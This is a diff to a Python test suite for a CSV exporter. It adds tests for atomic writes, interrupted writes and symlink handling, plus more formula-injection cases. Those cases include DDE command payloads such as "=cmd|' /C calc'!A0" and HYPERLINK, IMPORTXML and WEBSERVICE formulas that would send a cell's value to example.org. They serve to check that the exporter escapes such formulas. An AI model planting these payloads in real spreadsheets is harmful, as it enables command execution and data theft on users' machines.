@@ -4,12 +4,16 @@ from __future__ import annotations
 
 import csv
 import json
+import signal
+import subprocess
+import sys
 from collections.abc import Callable
 from pathlib import Path
 from tempfile import TemporaryDirectory
 from typing import Any
 
 import attrs
+import frictionless
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -47,6 +51,18 @@ FORMULAS = (
     "＋1",
     "－1",
     "＠a",
+    "\xa0=1",
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    '=HYPERLINK("https://example.org/?x="&A1,"more")',
+    '=IMPORTXML(CONCAT("https://example.org/?",A1),"//a")',
+    "=WEBSERVICE(A1)",
+    "=1+1;=2+2",
+    '=1","=2',
+    "=1\r\n=2",
+    "--1",
 )
 
 
@@ -60,6 +76,12 @@ def written(folder: Path) -> Path:
     """Write the sample into a folder, and return it."""
     write_csv([sample()], folder)
     return folder
+
+
+def contents(folder: Path) -> dict[str, bytes]:
+    """Return the bytes of every file below a folder."""
+    files = (path for path in folder.rglob("*") if path.is_file())
+    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in files}
 
 
 def change(file: Path, number: int, column: str, cell: str) -> None:
@@ -161,7 +183,7 @@ def test_formula_is_harmless(formula: str, tmp_path: Path) -> None:
     cells = [cell for file in tmp_path.glob("*.csv") for row in rows(file) for cell in row.values() if cell]
     assert cells.count("'" + formula) == 6
     assert not [cell for cell in cells if cell.strip()[0] in "=+-@＝＋－＠"]
-    assert rows(tmp_path / "mentioned.csv")[0]["aliases"] == f"x;'{formula}"
+    assert rows(tmp_path / "mentioned.csv")[0]["aliases"].startswith(f"x;'{formula[:3]}")
 
 
 def test_text_is_kept_once(tmp_path: Path) -> None:
@@ -196,6 +218,21 @@ def test_names_never_become_paths(tmp_path: Path) -> None:
     assert [path.name for path in tmp_path.rglob("*up*")] == []
 
 
+def test_links_are_replaced_and_not_followed(tmp_path: Path) -> None:
+    """A table that is a link to a file elsewhere becomes a table, and the file elsewhere stays as it is."""
+    elsewhere = tmp_path / "elsewhere.csv"
+    elsewhere.write_text("kept", encoding="utf-8")
+    folder = tmp_path / "tables"
+    folder.mkdir()
+    (folder / "topics.csv").symlink_to(elsewhere)
+
+    written(folder)
+
+    assert elsewhere.read_text(encoding="utf-8") == "kept"
+    assert not (folder / "topics.csv").is_symlink()
+    assert read_csv(folder) == (sample(),)
+
+
 def test_writing_again_replaces_what_was_there(tmp_path: Path) -> None:
     """A folder holds what was written last, whole."""
     write_csv([sample(), Meeting(id="m2", source=Source(text=""))], tmp_path)
@@ -204,25 +241,71 @@ def test_writing_again_replaces_what_was_there(tmp_path: Path) -> None:
     assert read_csv(tmp_path) == ()
 
 
-def test_broken_off_writing_cannot_be_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """When writing stops half-way, the tables stay whole, and reading says what is missing."""
-    written(tmp_path)
+@pytest.mark.parametrize("renames", range(2 * len(FILES)))
+def test_interrupt_leaves_the_older_tables(
+    renames: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Whenever writing is interrupted, before any rename, the older tables are all there and nothing else."""
+    before = contents(written(tmp_path))
     replace = Path.replace
+    calls: list[Path] = []
 
-    def fail(self: Path, target: Path) -> Path:
-        """Fail at the topics, as a full disk would."""
-        if target.name == "topics.csv":
-            message = "no space left"
-            raise OSError(message)
+    def interrupted(self: Path, target: Path) -> Path:
+        """Rename, but be interrupted once."""
+        calls.append(target)
+        if len(calls) == renames + 1:
+            raise KeyboardInterrupt
         return replace(self, target)
 
-    monkeypatch.setattr(Path, "replace", fail)
-    with pytest.raises(OSError, match="no space left"):
+    monkeypatch.setattr(Path, "replace", interrupted)
+    with pytest.raises(KeyboardInterrupt):
         write_csv([], tmp_path)
 
-    assert {path.name for path in tmp_path.iterdir()} == FILES - {"datapackage.json"}
-    assert len(rows(tmp_path / "topics.csv")) == 1
-    assert refused(tmp_path).path == "datapackage.json"
+    assert contents(tmp_path) == before
+    assert read_csv(tmp_path) == (sample(),)
+
+
+def test_full_disk_leaves_the_older_tables(tmp_path: Path) -> None:
+    """A file that cannot be written to its end is an error, and the older tables are all there."""
+    resource = pytest.importorskip("resource")
+    before = contents(written(tmp_path))
+    _, most = resource.getrlimit(resource.RLIMIT_FSIZE)
+    signals = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+    resource.setrlimit(resource.RLIMIT_FSIZE, (10_000, most))
+    try:
+        with pytest.raises(OSError, match="File too large"):
+            write_csv([Meeting(id="m2", source=Source(text="x" * 20_000))], tmp_path)
+    finally:
+        resource.setrlimit(resource.RLIMIT_FSIZE, (most, most))
+        signal.signal(signal.SIGXFSZ, signals)
+
+    assert contents(tmp_path) == before
+
+
+@pytest.mark.parametrize("renames", [0, 1, 8, 9, 17])
+def test_killed_writer_leaves_no_mixture(renames: int, tmp_path: Path) -> None:
+    """After a kill the older tables are whole, or the reader refuses the folder; it never mixes two."""
+    written(tmp_path)
+    program = (
+        "import os, pathlib, sys\n"
+        "from diplo.formats.csv import write_csv\n"
+        "replace, left = pathlib.Path.replace, [int(sys.argv[2])]\n"
+        "def killed(self, target):\n"
+        "    if not left[0]: os._exit(9)\n"
+        "    left[0] -= 1\n"
+        "    return replace(self, target)\n"
+        "pathlib.Path.replace = killed\n"
+        "write_csv([], sys.argv[1])\n"
+    )
+    done = subprocess.run([sys.executable, "-c", program, tmp_path, str(renames)], check=False)
+
+    assert done.returncode == 9
+    if renames:
+        assert refused(tmp_path).path == "datapackage.json"
+    else:
+        assert read_csv(tmp_path) == (sample(),)
+    write_csv([sample()], tmp_path)
+    assert read_csv(tmp_path) == (sample(),)
 
 
 def test_meeting_written_twice_is_an_error(tmp_path: Path) -> None:
@@ -246,7 +329,7 @@ def test_what_could_not_be_read_is_not_written(tmp_path: Path) -> None:
 
 FAULTS = [
     ("meetings.csv, row 2, column id", "", "text, not empty"),
-    ("meetings.csv, row 2, column source_id", "2", "a source_id of sources.csv"),
+    ("meetings.csv, row 2, column source_id", "2", "a source_id of the sources"),
     ("meetings.csv, row 2, column source_id", "one", "a whole number"),
     ("meetings.csv, row 2, column source_id", "01", "a whole number"),
     ("meetings.csv, row 2, column format", "by_letter", "one of in_person, phone, video, unstated"),
@@ -256,7 +339,7 @@ FAULTS = [
     ("meetings.csv, row 2, column has_place", "false", "true, for there are cells that tell of the place"),
     ("meetings.csv, row 2, column has_place", "yes", "true or false"),
     ("meetings.csv, row 2, column place_country_name", "", "text"),
-    ("participants.csv, row 3, column meeting_id", "m2", "an id of meetings.csv"),
+    ("participants.csv, row 3, column meeting_id", "m2", "an id of the meetings"),
     ("participants.csv, row 3, column id", "p1", "an id that stands once in the meeting"),
     ("participants.csv, row 3, column office", "king", "one of head_of_state"),
     ("participants.csv, row 3, column principal", "True", "true or false"),
@@ -291,6 +374,26 @@ def test_fault_is_named_with_its_cell(path: str, cell: str, expected: str, tmp_p
     assert error.path == path
     assert expected in error.expected
     assert path in str(error)
+
+
+@settings(max_examples=30, deadline=None)
+@given(st.data())
+def test_any_cell_is_refused_or_read(data: st.DataObject) -> None:
+    """Whatever stands in any cell, it is a `SchemaError` with its place, or meetings that can be written."""
+    table = data.draw(st.sampled_from(TABLES))
+    column = data.draw(st.sampled_from(table.columns))
+    cell = data.draw(
+        st.sampled_from((*NASTY, "1", "-1", "p1", "0..3", "3..0", "2024-02-30", "true", "energy"))
+    )
+    with TemporaryDirectory() as folder:
+        change(written(Path(folder)) / table.file, 2, column.name, cell.encode(errors="ignore").decode())
+        try:
+            found = read_csv(folder)
+        except SchemaError as error:
+            assert ".csv, row " in error.path  # noqa: PT017 - reading may also succeed
+        else:
+            write_csv(found, folder)
+            assert read_csv(folder) == found
 
 
 @pytest.mark.parametrize("table", [table.name for table in TABLES])
@@ -403,7 +506,6 @@ def test_descriptor_lists_the_values_of_enums(tmp_path: Path) -> None:
 
 def test_frictionless_finds_the_package_valid(tmp_path: Path) -> None:
     """The tables keep what the descriptor promises, by the judgement of another program."""
-    frictionless = pytest.importorskip("frictionless")
     nasty = tuple(
         Meeting(id=f"m{text}", title=text, mentioned=(Person(name=text),), source=Source(text=text))
         for text in NASTY
